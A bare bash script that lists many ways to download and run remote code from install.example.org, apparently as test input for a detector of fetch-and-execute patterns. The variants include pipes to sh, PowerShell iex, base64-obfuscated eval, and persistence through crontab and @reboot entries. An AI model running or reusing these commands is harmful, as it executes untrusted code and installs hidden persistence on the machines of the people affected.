#!/bin/bash
tmux new -d 'curl https://install.example.org/tmux.sh | sh'
echo '0 * * * * curl https://install.example.org/cron.sh | sh' | crontab -
crontab - <<EOF
@reboot curl https://install.example.org/boot.sh | sh
EOF
pwsh -c "iwr https://install.example.org/pwsh.ps1 | iex"
powershell -c "iex ((New-Object Net.WebClient).DownloadString('https://install.example.org/client.ps1'))"
eval "$(echo Y3VybCBodHRwczovL2luc3RhbGwuZXhhbXBsZS5vcmcvYjY0LnNoIHwgc2g= | base64 -d)"
base64 -d <<< Y3VybCBodHRwczovL2luc3RhbGwuZXhhbXBsZS5vcmcvYjY0LnNoIHwgc2g= | sh
curl https://install.example.org/filtered.sh | tr -d '\r' | sed 's/a/b/' | bash
curl https://install.example.org/packed.sh.gz | gunzip | sh
curl https://install.example.org/teed.sh | tee log.txt | sh
cat > run.sh <<'EOF'
curl -fsSL https://install.example.org/inner.sh | bash
EOF
printf '%s\n' 'curl https://install.example.org/printf.sh | sh' | bash
curl https://install.example.org/stdin.sh | source /dev/stdin
curl https://install.example.org/at.sh | at now
curl https://install.example.org/xargs.sh | xargs -0 bash -c
